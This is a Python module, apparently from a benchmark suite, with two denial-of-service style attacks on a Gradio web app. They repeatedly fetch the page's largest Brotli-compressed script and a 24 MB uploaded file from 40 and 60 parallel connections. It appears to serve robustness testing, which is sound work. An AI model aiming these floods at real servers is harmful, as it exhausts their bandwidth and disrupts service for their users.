"""Attacks with files that are fetched again and again."""

from __future__ import annotations

import asyncio
import re
import secrets

from benchmarks.attacks.target import Target, all_at_once


def scripts(target: Target) -> object:
    """The largest script of the page, packed, from 40 connections without a pause"""
    client = target.client()
    names = set(re.findall(r"assets/[\w.@-]+\.js", client.get("/").text))
    largest = max(sorted(names), key=lambda name: len(client.get(f"/{name}").content))
    target.begin()
    return _fetched(target, target.head(f"GET /{largest}", "Accept-Encoding: br", "Connection: close"), 40)


def downloads(target: Target) -> object:
    """A file of 24 MB, from 60 connections without a pause"""
    path = target.browser().upload(secrets.token_bytes(24 << 20))[0]
    target.begin()
    return _fetched(target, target.head(f"GET /gradio_api/file={path}", "Connection: close"), 60)


def _fetched(target: Target, request: bytes, connections: int) -> object:
    is_time = target.until_end()

    async def fetch(_: int) -> str:
        size = 0
        while is_time():
            try:
                reader, writer = await target.opened()
                writer.write(request)
                while is_time() and (part := await asyncio.wait_for(reader.read(1 << 20), 5)):
                    size += len(part)
                writer.close()
            except (OSError, TimeoutError):
                await asyncio.sleep(0.01)
        return f"{size // 10_000_000}0 MB and more"

    return all_at_once(connections, fetch)


ATTACKS = (scripts, downloads)
